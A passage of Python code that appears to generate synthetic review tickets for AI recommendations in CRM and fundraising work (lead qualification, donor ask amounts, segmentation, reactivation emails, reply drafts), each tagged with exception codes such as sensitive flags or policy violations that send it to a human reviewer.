                     "Suppression list match on email. A new form fill may or may not be consent "
                     "to contact again."),
                    ("competitor_domain",
                     "Email domain belongs to a known competitor's parent company",
                     "Competitive intelligence risk: policy asks for a human to decide whether to "
                     "offer a trial."),
                ),
            )  # fmt: skip
            action, label = "approve_as_mql", "Qualify as MQL and start Mid-Market nurture"
            effect = "Creates MQL in CRM and enrolls in sequence 'Mid-Market-2'."
            rationale = "Strong fit on size and industry; requested pricing."
            triggers = [f"policy:{flag}"]
            signals = [
                {"name": "company_size", "value": size, "weight": 0.3},
                {"name": "suppression_match", "value": flag == "do_not_contact", "weight": 0.0},
            ]
            risk = {"tier": "medium", "flags": [flag]}
        else:  # sample_audit
            core = (
                "Hi, I'm writing my master's thesis on human-in-the-loop AI. Could I get a free "
                "license for the semester?"
            )
            title = "Student"
            size = None
            ext = f"auto-{n}"
            version, rank = self._version(model, created)
            conf = self._conf(0.9, 0.97, 0)
            action, label = "disqualify_lead", "Disqualify: student / research request"
            effect = "Marks the lead Disqualified and sends the education-program email."
            rationale = "Self-identified student; academic use; no company."
            summary = "Random 2% QA sample of auto-approved decisions"
            signals = [{"name": "job_title_seniority", "value": "student", "weight": -0.6}]
            risk = {}
            routing = {"queue": "sample_audit", "priority": 10}

        # Email leads often arrive as the last message of a thread with an SDR.
        if channel == "email" and code != "high_value" and rng.random() < 0.55:
            sdr = _pick(rng, _SDRS)
            sdr_from = _STAFF_EMAIL[sdr]
            pairs = int(rng.random() * 3)
            texts = [(sdr_from, _pick(rng, _LEAD_SDR_OPENERS).format(**slots))]
            for _ in range(pairs):
                lead_says, sdr_says = _pick(rng, _LEAD_MIDDLE)
                texts.append((email, lead_says.format(**slots)))
                texts.append((sdr_from, sdr_says.format(**slots)))
            texts.append((email, core))
            times = self._thread_times(received, len(texts), 30)
            messages = [{"from": f, "at": _iso(t), "text": x} for (f, x), t in zip(texts, times, strict=True)]
        else:
            messages = [{"from": email, "at": _iso(received), "text": core}]

        attrs: dict[str, Any] = {
            "company_size": size,
            "industry": industry,
            "country": country,
            "source_page": page,
        }
        if title is not None or code == "missing_field":
            attrs["job_title"] = title
        tier = (
            "unknown" if size is None else "major" if size >= 3_000 else "mid" if size >= 200 else "standard"
        )
        subject: dict[str, Any] = {
            "kind": "lead",
            "ref": f"crm:{_sf_id(num)}",
            "display_name": name,
            "email": email,
        }
        if rng.random() < 0.3 and country in ("US", "CA", "GB"):
            # Numbers reserved for fiction: 555-0100..0199 (NANP), 020 7946 0xxx (Ofcom).
            subject["phone"] = (
                f"+44 20 7946 0{num % 1000:03d}" if country == "GB" else f"+1 555-01{num % 100:02d}"
            )
        subject["organization"] = org
        subject["value_tier"] = tier
        subject["attributes"] = attrs
        as_of, stale = self._data_as_of(created)
        if stale and code != "sample_audit":
            triggers.append(f"stale_enrichment:{(created - as_of) // _DAY}d")
        recommendation: dict[str, Any] = {"action": action, "label": label}
        if details:
            recommendation["details"] = details
        ai: dict[str, Any] = {"model": model, "model_version": version}
        if model in _PROMPTS:
            ai["prompt_version"] = _PROMPTS[model][rank == 0]
        ai.update(
            recommendation=recommendation,
            confidence=conf,
            rationale=rationale,
            signals=signals,
            data_as_of=_iso(as_of),
            proposed_effect=effect,
        )
        exception: dict[str, Any] = {"code": code, "summary": summary}
        if exc_details:
            exception["details"] = exc_details
        if triggers:
            exception["triggers"] = triggers
        return self._ticket(
            ext,
            "crm-lead-agent",
            "lead_qualification",
            created,
            subject,
            {"channel": channel, "received_at": _iso(received), "messages": messages},
            ai,
            exception,
            risk,
            self._maybe_routing(created, routing),
        )

    # -- donors: shared pieces --------------------------------------------------------

    def _donor(self, tier: str | None = None) -> tuple[int, str, str, str, str, str]:
        rng = self.rng
        # randrange is several times slower than scaling random(); this runs per ticket.
        num = 10_000 + int(rng.random() * 89_990)
        if tier == "major":
            num -= num % 10
        elif tier == "mid":
            num += 1 + int(rng.random() * 3) - num % 10
        elif tier == "standard":
            num += 4 + int(rng.random() * 6) - num % 10
        first, last, name, email = _donor_identity(num)
        return num, first, last, name, email, _donor_tier(num)

    def _gift_size(self, tier: str) -> int:
        r = self.rng.random()
        if tier == "major":
            return int(round(5_000 + 45_000 * r * r, -3))
        if tier == "mid":
            return int(round(500 + 4_500 * r, -2))
        return int(round(25 + 275 * r, -1)) or 25

    def _crm_notes(self, core: str, end: int, slots: dict[str, str], n: int) -> list[dict]:
        """A core note preceded by older notes from gift officers (a CRM timeline)."""
        rng = self.rng
        times = self._thread_times(end, n, 24 * 9)
        msgs = []
        first = int(rng.random() * len(_DONOR_LEADINS))  # consecutive picks: no repeated note
        for i, t in enumerate(times[:-1]):
            text = _DONOR_LEADINS[(first + i) % len(_DONOR_LEADINS)].format(**slots)
            msgs.append({"from": _pick(rng, _GIFT_OFFICERS), "at": _iso(t), "text": text})
        who = "gift officer" if rng.random() < 0.4 else _pick(rng, _GIFT_OFFICERS)
        msgs.append({"from": who, "at": _iso(times[-1]), "text": core})
        return msgs

    # -- ask_amount -------------------------------------------------------------------

    _ASK_CODES = _weighted(
        (
            (0.22, "high_value"),
            (0.16, "sensitive_attribute"),
            (0.12, "low_confidence"),
            (0.12, "sentiment_conflict"),
            (0.10, "missing_field"),
            (0.14, "policy_flag"),
            (0.06, "sample_audit"),
        )
    )

    def _ask_amount(self) -> dict[str, Any]:
        rng = self.rng
        created = self._created()
        code = _choose(rng, self._ASK_CODES)
        tier = {"high_value": "major", "sample_audit": "standard"}.get(code)
        if tier is None:
            tier = _pick(rng, ("major", "mid", "mid", "standard", "standard"))
        num, first, _last, name, email, tier = self._donor(tier)
        currency = "USD" if rng.random() < 0.85 else _pick(rng, ("CAD", "GBP"))
        last_gift = self._gift_size(tier)
        lifetime = last_gift * (2 + int(rng.random() * 9))
        trend = int(-10 + 60 * rng.random())
        multiple = round(1.4 + 0.9 * rng.random(), 1)
        campaign = _pick(rng, _CAMPAIGNS)
        step = 2_500 if tier == "major" else 250 if tier == "mid" else 25
        ask = max(step, round(last_gift * multiple / step) * step)
        model = "ask-recommender"
        version, rank = self._version(model, created)
        n = self._next_id("fundraising-ai")
        ext = f"don-{num}-ask-{n}"
        event = _pick(rng, _EVENTS)
        month = _MONTHS[(_month(created) - 2) % 12]  # last month
        slots = {"first": first, "event": event, "campaign": campaign, "month": month}
        timing = _pick(rng, ("next 14 days", "next 30 days", "after the gala", "before year-end"))
        channel = "crm_note"
        risk: dict[str, Any] = {
            "tier": "high" if ask >= 10_000 else "medium" if ask >= 1_000 else "low",
            "amount": ask,
            "currency": currency,
        }
        routing = None
        exc_details = None
        last_gift_at: str | None = _date(created - int((20 + 300 * rng.random()) * _DAY))
        signals = [
            {"name": "giving_trend", "value": f"{trend:+d}% yoy", "weight": round(trend / 100, 2)},
            {
                "name": f"affinity_{_CAMPAIGN_KEY[campaign]}",
                "value": round(0.5 + 0.45 * rng.random(), 2),
                "weight": 0.3,
            },
            {"name": "peer_ask_ratio", "value": multiple, "weight": 0.2},
        ]
        rationale = (
            f"Giving history shows a {trend:+d}% year-over-year trend and affinity for the "
            f"{campaign}. Similar donors at this tier responded to asks of {multiple - 0.2:.1f}-"
            f"{multiple + 0.2:.1f}x their last gift."
        )
        n_notes = 1 + int(rng.random() * 4) if rng.random() < 0.45 else 1

        if code == "high_value":
            conf = self._typical_conf(rank)
            core = _pick(
                rng,
                (
                    f"Lunch with {first} went well. Toured the {campaign} site and asked what a "
                    "naming opportunity would look like. Spouse also engaged; wants a proposal "
                    "in writing.",
                    f"{first} called after the {event}: their family foundation is 'ready to do "
                    f"something significant' for the {campaign}. Wants the budget and the "
                    "naming options.",
                    f"Site visit with {first} and their financial advisor. Asked about "
                    f"multi-year pledges and stock transfers; very engaged with the {campaign}.",
                ),
            )
            channel = "phone_note" if " called" in core else "crm_note"
            summary = f"Major-gift ask of {_money(ask, currency)} needs a gift officer's sign-off"
            triggers = [*_conf_triggers(conf), "value_tier:major"]
            if ask >= 10_000:
                triggers.append("ask_above_10000")
            risk["tier"] = "high"
            if rng.random() < 0.4:
                routing = {"due_at": _iso(created + int((1 + 3 * rng.random()) * _DAY))}
        elif code == "sensitive_attribute":
            conf = self._conf(0.7, 0.96, rank)
            flag, tmpl, summary = _pick(rng, _SENSITIVE_NOTES)
            core = tmpl.format(**slots)
            channel = "phone_note" if " called" in core else "crm_note"
            exc_details = (
                "The model is confident, but the notes contain a sensitive life event. Policy: "
                "human-only for donors with sensitive flags."
            )
            triggers = [f"sensitive_flag:{flag}", f"value_tier:{tier}"]
            risk.update(sensitive=True, flags=[flag])
            if tier == "major" or rng.random() < 0.5:
                routing = {"queue": "human_only", "priority": 80 + int(rng.random() * 15)}
        elif code == "low_confidence":
            conf = self._conf(0.2, 0.58, rank)
            channel = "event"
            core = (
                f"First gift was {_money(last_gift, currency)} at the {event}; no other history. "
                f"Chatted briefly about the {campaign}."
            )
            lifetime = last_gift
            summary = "Single gift on record; ask amount is mostly a guess"
            triggers = _conf_triggers(conf)
            signals.append({"name": "gift_count", "value": 1, "weight": -0.4})
        elif code == "sentiment_conflict":
            conf = self._typical_conf(rank)
            channel = "event"
            core = (
                f"{first} was upset that the {event} seating put them at the back again "
                "('feels like we're only a checkbook'). Then said they'd 'probably do more this "
                "year'."
            )
            summary = "Donor signalled a bigger gift and frustration in the same conversation"
            triggers = [*_conf_triggers(conf), "negative_sentiment"]
        elif code == "missing_field":
            conf = self._conf(0.55, 0.85, rank)
            field = _pick(rng, ("last_gift_at", "capacity_rating"))
            core = "Record migrated from the old donor database; gift history before 2024 was not imported."
            summary = f"{field.replace('_', ' ').capitalize()} missing after CRM migration"
            triggers = [*_conf_triggers(conf), f"missing_field:{field}"]
            if field == "last_gift_at":
                last_gift_at = None
        elif code == "policy_flag":
            conf = self._typical_conf(rank)
            if rng.random() < 0.5:
                ask = max(ask, last_gift * 4 // step * step)
                risk["amount"] = ask
                core = (
                    f"{first} hinted at 'something bigger' for the {campaign} after the "
                    f"{event}. No capacity screening yet."
                )
                summary = "Ask is more than 3x the last gift (policy cap)"
                triggers = ["policy:ask_multiple_above_3x"]
                risk["flags"] = ["ask_multiple_above_3x"]
            else:
                core = (
                    f"{first} joined the board in {month}. Board members' asks are set by the "
                    "chair, not development staff."
                )
                summary = "Donor is a board member; asks go through the board chair"
                exc_details = "Conflict-of-interest policy 4.2: no staff-initiated asks to trustees."
                triggers = ["policy:board_member_ask"]
                risk["flags"] = ["board_member"]
                if rng.random() < 0.5:
                    routing = {"queue": "escalation"}
        else:  # sample_audit
            conf = self._conf(0.9, 0.97, 0)
            core = f"Renewed annual gift online. Opened the last three {campaign} emails."
            summary = "Random 2% QA sample of auto-approved decisions"
            ext = f"auto-{n}"
            triggers = []
            routing = {"queue": "sample_audit", "priority": 10}
            n_notes = 1

        messages = self._crm_notes(core, created - int(rng.random() * 6 * _DAY), slots, n_notes)
        as_of, stale = self._data_as_of(created)
        if stale:
            triggers.append(f"stale_giving_data:{(created - as_of) // _DAY}d")
        attrs: dict[str, Any] = {
            "lifetime_giving": lifetime,
            "last_gift_at": last_gift_at,
            "last_gift_amount": last_gift,
            "preferred_channel": _pick(rng, ("phone", "email", "mail", "in person")),
        }
        if code == "missing_field" and last_gift_at is not None:
            attrs["capacity_rating"] = None
        subject: dict[str, Any] = {"kind": "donor", "ref": f"crm:D-{num}", "display_name": name}
        if rng.random() < 0.8:
            subject["email"] = email
        if tier == "major" and rng.random() < 0.6:
            subject["phone"] = f"+1 555-01{num % 100:02d}"
        subject["value_tier"] = tier
        subject["attributes"] = attrs
        label = f"Ask {_money(ask, currency)} for the {campaign}"
        ai = {
            "model": model,
            "model_version": version,
            "recommendation": {
                "action": "set_ask_amount",
                "label": label,
                "details": {"amount": ask, "currency": currency, "timing": timing},
            },
            "confidence": conf,
            "rationale": rationale,
            "signals": signals,
            "data_as_of": _iso(as_of),
            "proposed_effect": (
                f"Schedules a {_money(ask, currency)} ask "
                f"{'visit' if tier == 'major' else 'call'} ({timing}) and drafts the proposal."
            ),
        }
        exception: dict[str, Any] = {"code": code, "summary": summary}
        if exc_details:
            exception["details"] = exc_details
        if triggers:
            exception["triggers"] = triggers
        return self._ticket(
            ext,
            "fundraising-ai",
            "ask_amount",
            created,
            subject,
            {"channel": channel, "messages": messages},
            ai,
            exception,
            risk,
            self._maybe_routing(created, routing),
        )

    # -- donor_segmentation -----------------------------------------------------------

    _SEG_CODES = _weighted(
        (
            (0.26, "sentiment_conflict"),
            (0.16, "low_confidence"),
            (0.12, "missing_field"),
            (0.12, "sensitive_attribute"),
            (0.10, "high_value"),
            (0.08, "policy_flag"),
            (0.06, "sample_audit"),
        )
    )

    def _donor_segmentation(self) -> dict[str, Any]:
        rng = self.rng
        # The segmenter runs as a nightly batch at 02:00 UTC.
        created = self._created()
        created = created - created % _DAY + 2 * _HOUR + int(rng.random() * 1_200)
        if created >= self.now:
            created -= _DAY
        code = _choose(rng, self._SEG_CODES)
        tier = "major" if code == "high_value" else _pick(rng, ("standard", "standard", "mid"))
        num, _first, _last, name, email, tier = self._donor(tier)
        model = "segmenter"
        version, rank = self._version(model, created)
        n = self._next_id("segmentation-model")
        ext = f"seg-{_date(created)[:7]}-{n:05d}"
        months = 13 + int(rng.random() * 20)
        opens = int(rng.random() * 3)
        events = int(rng.random() * 4)
        gifts_24m = int(rng.random() * 3)
        event = _pick(rng, _EVENTS)
        from_seg, to_seg = "active-standard", "lapsed-low-touch"
        channel = "event"
        core = f"Checked in at {event} ({events + 1} events this year)."
        routing = None
        risk: dict[str, Any] = {"tier": "medium"}
        exc_details = None
        effect = "Stops appeal mailings; donor receives only the annual report."
        signals = [
            {"name": "months_since_gift", "value": months, "weight": 0.5},
            {"name": "email_opens_90d", "value": opens, "weight": 0.3},
            {"name": "events_attended", "value": events + 1, "weight": -0.4},
        ]
        rationale = f"No gifts in {months} months and {opens} email opens over 90 days."
        triggers: list[str] = []
        action = "move_segment"

        if code == "sentiment_conflict":
            conf = self._typical_conf(rank)
            summary = "Inactive by email and giving, but active at events"
            triggers = [*_conf_triggers(conf), "conflicting_signals"]
        elif code == "low_confidence":
            conf = self._conf(0.25, 0.58, rank)
            from_seg, to_seg = "active-standard", "mid-level-upgrade-candidates"
            channel = "crm_note"
            since = self.year - 1 - int(rng.random() * 5)
            monthly = 10 + 5 * int(rng.random() * 14)
            core = (
                f"Monthly donor since {since}; upgraded to ${monthly}/month in "
                f"{_MONTHS[(_month(created) - 2 - int(rng.random() * 6)) % 12]}."
            )
            rationale = "Recent upgrade, but tenure and wealth signals are weak for mid-level."
            effect = "Adds the donor to the mid-level upgrade call list for next quarter."
            summary = "Borderline upgrade candidate"
            triggers = _conf_triggers(conf)
            signals = [
                {"name": "recurring_tenure_years", "value": self.year - since, "weight": 0.3},
                {"name": "capacity_band", "value": "unknown", "weight": -0.2},
            ]
        elif code == "missing_field":
            conf = self._conf(0.5, 0.85, rank)
            channel = "other"
            core = f"Email to {email} hard-bounced (550 mailbox unavailable)."
            rationale = "Zero email engagement, but the address is invalid, so opens are unknown."
            summary = "No valid email; engagement score is not meaningful"
            triggers = [*_conf_triggers(conf), "missing_field:email"]
            signals[1] = {"name": "email_opens_90d", "value": None, "weight": 0.3}
        elif code == "sensitive_attribute":
            conf = self._conf(0.6, 0.93, rank)
            channel = "other"
            flag = "possible_deceased"
            core = (
                f"Obituary feed match: '{name}' ({_pick(rng, ('Portland', 'Leeds', 'Hamilton'))}),"
                f" published {_date(created - int(rng.random() * 20 * _DAY))}. Address match: "
                "partial."
            )
            action = "flag_deceased"
            from_seg, to_seg = "active-standard", "deceased-suppress-all"
            effect = "Suppresses all contact and marks the record deceased; family tributes only."
            rationale = "Name and city match an obituary; birth year consistent with CRM age band."
            summary = "Possible deceased match from obituary feed (partial address match)"
            exc_details = "Deceased flags are human-only: a false positive is very hurtful."
            triggers = [f"sensitive_flag:{flag}", "partial_match"]
            risk = {"tier": "high", "sensitive": True, "flags": ["bereavement", flag]}
            routing = {"queue": "human_only"} if rng.random() < 0.5 else None
            signals = [
                {"name": "name_match", "value": 1.0, "weight": 0.5},
                {"name": "address_match", "value": "partial", "weight": 0.2},
            ]
        elif code == "high_value":
            conf = self._typical_conf(rank)
            from_seg, to_seg = "major-donors", "lapsed-low-touch"
            lifetime = 100_000 + 25_000 * int(rng.random() * 10)
            rationale += f" Lifetime giving {_money(lifetime, 'USD')}."
            summary = f"Would move a major donor ({_money(lifetime, 'USD')} lifetime) to low-touch"
            triggers = [*_conf_triggers(conf), "value_tier:major"]
            risk = {"tier": "high", "amount": lifetime, "currency": "USD"}
        elif code == "policy_flag":
            conf = self._typical_conf(rank)
            channel = "crm_note"
            core = _pick(
                rng,
                (
                    "Donor asked to be removed from all solicitations (call logged by front desk).",
                    "Donor asked for 'no more than one appeal a year'; year-end appeal already sent.",
                ),
            )
            from_seg, to_seg = "do-not-solicit", "spring-appeal-mailing"
            effect = "Adds the donor to the spring appeal mailing (print + email)."
            rationale = "Giving pattern matches the spring appeal lookalike audience."
            summary = "Donor is flagged do-not-solicit but the model adds them to an appeal"
            triggers = ["policy:do_not_solicit"]
            risk = {"tier": "medium", "flags": ["do_not_solicit"]}
        else:  # sample_audit
            conf = self._conf(0.9, 0.97, 0)
            channel = "crm_note"
            core = f"Monthly donor since {self.year - 5}; upgraded to $75/month in August."
            from_seg, to_seg = "monthly-sustainers", "mid-level-upgrade-candidates"
            rationale = "Recent upgrade and 5-year tenure match the upgrade-candidate profile."
            summary = "Random 2% QA sample of auto-approved decisions"
            ext = f"auto-{n}"
            routing = {"queue": "sample_audit", "priority": 10}
            risk = {}
            signals = []

        msg: dict[str, Any] = {"text": core}
        if channel != "crm_note" or rng.random() < 0.5:
            msg["at"] = _iso(created - int((1 + 40 * rng.random()) * _DAY))
        as_of, stale = self._data_as_of(created)
        if stale and code != "sample_audit":
            triggers.append(f"stale_engagement_data:{(created - as_of) // _DAY}d")
        subject = {
            "kind": "donor",
            "ref": f"crm:D-{num}",
            "display_name": name,
            "value_tier": tier,
            "attributes": {
                "gifts_last_24m": gifts_24m,
                "events_attended": events + 1,
                "email_opens_90d": None if code == "missing_field" else opens,
            },
        }
        label = f"Move to '{to_seg.replace('-', ' ')}'"
        if action == "flag_deceased":
            label = "Mark deceased and suppress all contact"
        ai: dict[str, Any] = {
            "model": model,
            "model_version": version,
            "recommendation": {
                "action": action,
                "label": label,
                "details": {"from": from_seg, "to": to_seg},
            },
            "confidence": conf,
            "rationale": rationale,
        }
        if signals:
            ai["signals"] = signals
        ai["data_as_of"] = _iso(as_of)
        ai["proposed_effect"] = effect
        exception: dict[str, Any] = {"code": code, "summary": summary}
        if exc_details:
            exception["details"] = exc_details
        if triggers:
            exception["triggers"] = triggers
        return self._ticket(
            ext,
            "segmentation-model",
            "donor_segmentation",
            created,
            subject,
            {"channel": channel, "messages": [msg]},
            ai,
            exception,
            risk,
            self._maybe_routing(created, routing),
        )

    # -- reactivation_outreach --------------------------------------------------------

    _REACT_CODES = _weighted(
        (
            (0.18, "low_confidence"),
            (0.18, "ambiguous_intent"),
            (0.14, "sentiment_conflict"),
            (0.12, "sensitive_attribute"),
            (0.12, "policy_flag"),
            (0.10, "missing_field"),
            (0.06, "sample_audit"),
        )
    )

    def _reactivation_outreach(self) -> dict[str, Any]:
        rng = self.rng
        created = self._created()
        code = _choose(rng, self._REACT_CODES)
        num, first, _last, name, email, tier = self._donor(_pick(rng, ("standard", "mid")))
        model = "reactivation-scorer"
        version, rank = self._version(model, created)
        n = self._next_id("outreach-bot")
        ext = f"react-{n:06d}"
        months = 13 + int(rng.random() * 36)
        prior = 2 + int(rng.random() * 8)
        campaign = _pick(rng, _CAMPAIGNS)
        suggested = (50, 75, 100, 150, 250)[int(rng.random() * 5)]
        currency = "USD"
        series = _pick(rng, ("spring", "We miss you", "impact-story", "year-end"))
        action = "send_reactivation_email"
        label = f"Send '{series}' reactivation email (suggested gift {_money(suggested, currency)})"
        effect = f"Sends the '{series}' email tomorrow 09:00 donor local time; 3-touch sequence."
        channel = "crm_note"
        from_: str | None = _pick(rng, _GIFT_OFFICERS)
        core = _pick(
            rng,
            (
                f"Lapsed since {_date(created - months * 30 * _DAY)}. Gave {prior} years in a "
                f"row to the {campaign} before that.",
                f"Opened the last two impact emails, no clicks. Lapsed since "
                f"{_date(created - months * 30 * _DAY)}.",
                f"Came to the {_pick(rng, _EVENTS)} in {self.year - 1} with a friend but hasn't given since.",
            ),
        )
        thread: list[tuple[str | None, str]] = []
        risk: dict[str, Any] = {"tier": "low", "amount": suggested, "currency": currency}
        routing = None
        exc_details = None
        propensity = round(0.2 + 0.6 * rng.random(), 2)
        signals = [
            {"name": "months_since_gift", "value": months, "weight": -0.3},
            {"name": "prior_gift_years", "value": prior, "weight": 0.45},
            {"name": "propensity_score", "value": propensity, "weight": 0.35},
        ]
        rationale = (
            f"{prior} consecutive years of giving before lapsing {months} months ago; lookalike "
            f"donors reactivated at {round(8 + 14 * propensity)}% with a soft re-entry ask."
        )
        triggers: list[str] = []
        email_on_file = True

        if code == "low_confidence":
            conf = self._conf(0.15, 0.58, rank)
            summary = "Reactivation likelihood near the decision threshold"
            triggers = _conf_triggers(conf)
        elif code == "ambiguous_intent":
            conf = self._conf(0.5, 0.8, rank)
            channel = "phone_note"
            core = _pick(
                rng,
                (
                    "Called to update address; said they'd 'think about giving again once the "
                    "kids are through college'.",
                    "Said 'maybe later in the year, things are tight' and then asked about the "
                    "volunteer program.",
                    "Returned our call. Asked what happened with the library project, then had to "
                    "go. Didn't say no.",
                ),
            )
            summary = "Reply could mean 'not now' or 'ask me later'"
            triggers = _conf_triggers(conf)
            action = "schedule_follow_up" if rng.random() < 0.4 else action
            if action == "schedule_follow_up":
                label = "Schedule a stewardship call in 90 days"
                effect = "Creates a call task for the gift officer in 90 days; no email now."
        elif code == "sentiment_conflict":
            conf = self._typical_conf(rank)
            channel = "email"
            from_ = email
            core = _pick(
                rng,
                (
                    "Please stop sending me paper mail, it's a waste. I still follow your work "
                    "online and love the student stories.",
                    "I stopped giving after the leadership change. Not angry, just disappointed. "
                    "The new library wing does look wonderful though.",
                    "Your phone team called me during dinner three times last spring. I used to "
                    f"love supporting the {campaign}.",
                ),
            )
            thread = [
                (_STAFF_EMAIL[_pick(rng, _GIFT_OFFICERS)],
                 f"Hi {first}, it's been a while! Here's what your support made possible at the "
                 f"{campaign} this year..."),
            ]  # fmt: skip
            summary = "Positive about the mission, negative about our outreach"
            triggers = [*_conf_triggers(conf), "negative_sentiment"]
        elif code == "sensitive_attribute":
            conf = self._conf(0.65, 0.94, rank)
            flag, tmpl, summary = _pick(rng, _SENSITIVE_NOTES[2:])
            core = tmpl.format(
                first=first,
                event=_pick(rng, _EVENTS),
                campaign=campaign,
                month=_pick(rng, _MONTHS),
            )
            exc_details = "Outreach to donors with a sensitive flag must be approved by a person."
            triggers = [f"sensitive_flag:{flag}"]
            risk.update(tier="medium", sensitive=True, flags=[flag])
            if rng.random() < 0.5:
                routing = {"queue": "human_only"}
        elif code == "policy_flag":
            conf = self._typical_conf(rank)
            channel = "other"
            from_ = None
            flag, core, summary = _pick(
                rng,
                (
                    ("email_opt_out",
                     f"Preference center: unsubscribed from email on {_date(created - 400 * _DAY)}."
                     " Phone consent still on file.",
                     "Donor opted out of email; the model proposes an email"),
                    ("gdpr_consent_missing",
                     "Record imported from the UK chapter. Lawful basis for email not recorded.",
                     "No recorded consent for email (UK donor)"),
                ),
            )  # fmt: skip
            triggers = [f"policy:{flag}"]
            risk.update(tier="medium", flags=[flag])
        elif code == "missing_field":
            conf = self._conf(0.55, 0.85, rank)
            channel = "other"
            from_ = None
            email_on_file = False
            core = f"Email to {email} bounced in {_pick(rng, _MONTHS)}; no alternate address."
            summary = "No deliverable email address on file"
            triggers = [*_conf_triggers(conf), "missing_field:email"]
        else:  # sample_audit
            conf = self._conf(0.9, 0.97, 0)
            summary = "Random 2% QA sample of auto-approved decisions"
            ext = f"auto-{n}"
            routing = {"queue": "sample_audit", "priority": 10}
            risk = {}

        at = created - int(rng.random() * 5 * _DAY)
        if thread:
            times = self._thread_times(at, len(thread) + 1, 24 * 12)
            messages = [
                {"from": f, "at": _iso(t), "text": x}
                for (f, x), t in zip([*thread, (from_, core)], times, strict=True)
            ]
        else:
            messages = [{"at": _iso(at), "text": core}]
            if from_:
                messages[0] = {"from": from_, **messages[0]}
        as_of, stale = self._data_as_of(created)
        if stale and code != "sample_audit":
            triggers.append(f"stale_giving_data:{(created - as_of) // _DAY}d")
        subject: dict[str, Any] = {
            "kind": "donor",
            "ref": f"crm:D-{num}",
            "display_name": name,
        }
        if email_on_file:
            subject["email"] = email
        subject["value_tier"] = tier
        subject["attributes"] = {
            "last_gift_at": _date(created - months * 30 * _DAY),
            "months_since_gift": months,
            "prior_gift_years": prior,
            "email_opt_in": code != "policy_flag",
        }
        ai: dict[str, Any] = {
            "model": model,
            "model_version": version,
            "recommendation": {
                "action": action,
                "label": label,
                "details": {
                    "series": series,
                    "suggested_gift": suggested,
                    "currency": currency,
                },
            },
            "confidence": conf,
            "rationale": rationale,
            "signals": signals,
            "data_as_of": _iso(as_of),
            "proposed_effect": effect,
        }
        exception: dict[str, Any] = {"code": code, "summary": summary}
        if exc_details:
            exception["details"] = exc_details
        if triggers:
            exception["triggers"] = triggers
        return self._ticket(
            ext,
            "outreach-bot",
            "reactivation_outreach",
            created,
            subject,
            {"channel": channel, "messages": messages},
            ai,
            exception,
            risk,
            self._maybe_routing(created, routing),
        )

    # -- message_draft ----------------------------------------------------------------

    _DRAFT_CODES = _weighted(
        (
            (0.22, "sentiment_conflict"),
            (0.14, "ambiguous_intent"),
            (0.18, "policy_flag"),
            (0.14, "sensitive_attribute"),
            (0.08, "missing_field"),
            (0.12, "low_confidence"),
            (0.06, "sample_audit"),
        )
    )

    def _message_draft(self) -> dict[str, Any]:
        rng = self.rng
        created = self._created()
        code = _choose(rng, self._DRAFT_CODES)
        num, first, last, name, email, tier = self._donor()
        model = "reply-drafter"
        version, rank = self._version(model, created)
        n = self._next_id("copy-assistant")
        ext = f"draft-{n:06d}"
        officer = _pick(rng, _GIFT_OFFICERS)
        campaign = _pick(rng, _CAMPAIGNS)
        org = _pick(rng, _ORGS)[0]
        amount = self._gift_size(tier)
        slots = {
            "first": first,
            "last": last,
            "officer": officer,
            "campaign": campaign,
            "event": _pick(rng, _EVENTS),
            "month": _pick(rng, _MONTHS),
            "org": org,
            "slug": _CAMPAIGN_KEY[campaign].replace("_", "-"),
            "amount": _money(amount, "USD"),
        }
        incoming, draft = _pick(rng, _DRAFT_INCOMING[code])
        incoming = incoming.format(**slots)
        draft = draft.format(**slots)
        risk: dict[str, Any] = {"tier": "low"}
        routing = None
        exc_details = None
        tone = "warm"

        if code == "sentiment_conflict":
            conf = self._typical_conf(rank)
            summary = "Upbeat draft replying to a complaint"
            triggers = [*_conf_triggers(conf), "tone_mismatch"]
            tone = "celebratory"
            risk["tier"] = "medium"
            sent_in = round(-0.4 - 0.5 * rng.random(), 2)
        elif code == "ambiguous_intent":
            conf = self._conf(0.5, 0.8, rank)
            summary = "Donor's request can be read two ways; draft assumes one"
            triggers = _conf_triggers(conf)
            exc_details = "Draft acts on an interpretation (increase/new gift) the donor did not state."
            sent_in = 0.0
        elif code == "policy_flag":
            conf = self._typical_conf(rank)
            is_tax = "tax" in incoming
            flag, summary, exc_details = _DRAFT_POLICY[0 if is_tax else 1]
            triggers = [f"policy:{flag}"]
            risk.update(tier="high", flags=[flag.split(":")[0]])
            sent_in = 0.2
            if rng.random() < 0.3:
                routing = {"queue": "escalation", "priority": 85}
        elif code == "sensitive_attribute":
            conf = self._conf(0.6, 0.92, rank)
            flag = "bereavement" if "passed" in incoming else "health"
            summary = (
                "Reply to a bereavement notice ignores the loss"
                if flag == "bereavement"
                else "Payment reminder to a donor who disclosed illness"
            )
            triggers = [f"sensitive_flag:{flag}", "tone_mismatch"]
            risk.update(tier="high", sensitive=True, flags=[flag])
            sent_in = -0.6
            routing = {"queue": "human_only", "priority": 90} if rng.random() < 0.6 else None
        elif code == "missing_field":
            conf = self._conf(0.5, 0.85, rank)
            summary = "Draft contains unresolved merge fields"
            triggers = [
                *_conf_triggers(conf),
                "unresolved_placeholder:first_name",
                "unresolved_placeholder:opening_date",
            ]
            exc_details = "The opening date is not in the knowledge base the drafter can read."
            sent_in = 0.5
        elif code == "low_confidence":
            conf = self._conf(0.18, 0.58, rank)
            summary = "Incoming message too vague to answer confidently"
            triggers = _conf_triggers(conf)
            sent_in = 0.0
        else:  # sample_audit
            conf = self._conf(0.9, 0.97, 0)
            summary = "Random 2% QA sample of auto-approved decisions"
            ext = f"auto-{n}"
            triggers = []
            routing = {"queue": "sample_audit", "priority": 10}
            risk = {}
            sent_in = 0.8

        received = created - 30 - int(rng.random() * 3 * _HOUR)
        if rng.random() < 0.3:
            # Earlier back-and-forth in the same email thread.
            k = 1 + int(rng.random() * 4)
            times = self._thread_times(received, k + 1, 24 * 6)
            officer_mail = _STAFF_EMAIL[officer]
            earlier = (
                (officer_mail, f"Dear {first},\n\nThank you for your gift to the {campaign}!"),
                (email, "Thank you! Happy to help."),
                (officer_mail, f"Would you like a tour of the {campaign} work this spring?"),
                (email, "Maybe - let me check my calendar."),
            )
            messages = [
                {"from": earlier[i][0], "at": _iso(times[i]), "text": earlier[i][1]} for i in range(k)
            ]
            messages.append({"from": email, "at": _iso(received), "text": incoming})
        else:
            messages = [{"from": email, "at": _iso(received), "text": incoming}]
        as_of, stale = self._data_as_of(created)
        if stale and code != "sample_audit":
            triggers.append(f"stale_donor_profile:{(created - as_of) // _DAY}d")
        subject: dict[str, Any] = {
            "kind": "donor",
            "ref": f"crm:D-{num}",
            "display_name": name,
